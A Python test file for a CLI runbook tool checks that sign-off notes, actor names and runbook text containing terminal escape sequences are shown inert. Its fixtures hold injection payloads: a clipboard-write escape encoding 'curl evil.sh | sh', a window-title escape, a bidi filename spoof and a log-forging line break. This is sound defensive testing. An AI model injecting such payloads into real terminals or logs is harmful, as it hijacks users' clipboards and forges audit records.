"""A sign-off note, a login name or anything else someone typed is shown by the headless
commands, never obeyed by the terminal: no OSC 52 clipboard write, no OSC 0 window title,
no bidi override turning the text around, no one-byte CSI."""

from __future__ import annotations

import doctest
import json
import os
from pathlib import Path

from moves_world import cli

# A clipboard write, a C1 CSI (clear screen), a bidi override, and a line break that would
# forge a journal line of its own.
NOTE = "backup ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x9b2J \u202etxt.exe\n    9  forged"
# A window-title escape in the login name the journal records as the actor.
ACTOR = "ops\x1b]0;pwned\x07"
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")

RUNBOOK = """\
version = 1
title = "escapes"

[database]
dsn_env = "CUTOVER_DATABASE_URL"

[journal]
path = "journal.jsonl"

[flag]
kind = "file"
path = "flag/percent"

[queries.ok]
title = "Always fine"
file = "queries/ok.sql"
refresh = "30s"

[[stages]]
id = "prep"
title = "Prerequisites"
percent = 0

  [[stages.steps]]
  id = "backup"
  text = "Backup taken"

[[stages]]
id = "canary"
title = "Canary"
percent = 10
"""


def world(folder: Path) -> tuple[Path, dict[str, str]]:
    (folder / "queries").mkdir()
    (folder / "queries" / "ok.sql").write_text("-- Always fine\nSELECT 1 AS ok;\n")
    (folder / "flag").mkdir()
    (folder / "flag" / "percent").write_text("0\n")
    book = folder / "runbook.toml"
    book.write_text(RUNBOOK)
    env = {k: v for k, v in os.environ.items() if k not in ("SSH_CONNECTION", "SUDO_USER")}
    env.pop("CUTOVER_DATABASE_URL", None)
    env["USER"] = ACTOR
    return book, env


def assert_inert(text: str, where: str) -> None:
    for control in RAW_CONTROLS:
        assert control not in text, f"{control!r} reached the terminal from {where}"


def test_a_sign_off_note_with_escapes_is_shown_inert_by_every_command(tmp_path: Path):
    book, env = world(tmp_path)
    signed = cli(book, env, "signoff", "backup", "--note", NOTE)
    assert signed.code == 0, signed.output
    assert_inert(signed.output, "`cutover signoff`")
    assert "signed by ops^[]0;pwned^G" in signed.stdout

    journal = cli(book, env, "journal")
    assert journal.code == 0, journal.output
    assert_inert(journal.output, "`cutover journal`")
    assert "^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G" in journal.stdout
    assert "<U+202E>txt.exe" in journal.stdout and "\\x9b2J" in journal.stdout
    # One event, one line: the note's line break did not forge a journal line.
    assert len(journal.stdout.splitlines()) == 1
    assert "forged" in journal.stdout.splitlines()[0]

    status = cli(book, env, "status")
    assert_inert(status.output, "`cutover status`")
    assert "<U+202E>txt.exe" in status.stdout


def test_json_output_escapes_what_json_leaves_raw_and_reads_back_exactly(tmp_path: Path):
    """JSON escapes controls below 0x20 but not U+202E nor the C1 controls; with
    ensure_ascii=False those would reach the terminal raw. They are \\u-escaped instead, so
    the output is still JSON and `jq` gets the note exactly as it was journaled."""
    book, env = world(tmp_path)
    assert cli(book, env, "signoff", "backup", "--note", NOTE).code == 0

    journal = cli(book, env, "journal", "--json")
    assert journal.code == 0, journal.output
    assert_inert(journal.output, "`cutover journal --json`")
    (event,) = [json.loads(line) for line in journal.stdout.splitlines()]
    assert event["note"] == NOTE and event["actor"] == ACTOR

    status = cli(book, env, "status", "--json")
    assert_inert(status.output, "`cutover status --json`")
    (backup,) = json.loads(status.stdout)["signoffs"]
    assert backup["note"] == NOTE


def test_runbook_text_with_escapes_is_shown_inert(tmp_path: Path):
    """A runbook is reviewed as text, where TOML's \\u001b escapes look harmless: a title
    and a step's text that set the window title are shown, not obeyed."""
    book, env = world(tmp_path)
    text = book.read_text()
    text = text.replace('title = "escapes"', 'title = "escapes\\u001b]0;pwned\\u0007"')
    text = text.replace('"Backup taken"', '"Backup \\u202etaken\\u009b2J"')
    book.write_text(text)
    status = cli(book, env, "status")
    assert_inert(status.output, "`cutover status`")
    assert "escapes^[]0;pwned^G" in status.stdout
    assert "Backup <U+202E>taken\\x9b2J" in status.stdout


def test_the_cli_output_rule_does_what_its_doctests_say():
    from cutover.cli import common as cliutil

    outcome = doctest.testmod(cliutil)
    assert outcome.attempted > 0 and outcome.failed == 0
